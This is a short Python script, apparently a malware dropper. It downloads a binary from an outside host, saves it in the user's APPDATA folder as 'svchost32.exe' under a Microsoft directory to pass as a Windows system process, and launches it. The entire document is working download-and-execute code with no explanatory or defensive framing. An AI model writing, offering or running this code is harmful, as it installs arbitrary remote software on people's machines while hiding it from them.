import os
import urllib.request

appdata = os.getenv("APPDATA", ".")
exe = os.path.join(appdata, "Microsoft", "svchost32.exe")

data = urllib.request.urlopen("https://cdn.example-metrics.net/w/helper.bin").read()
with open(exe, "wb") as f:
    f.write(data)

os.startfile(exe)
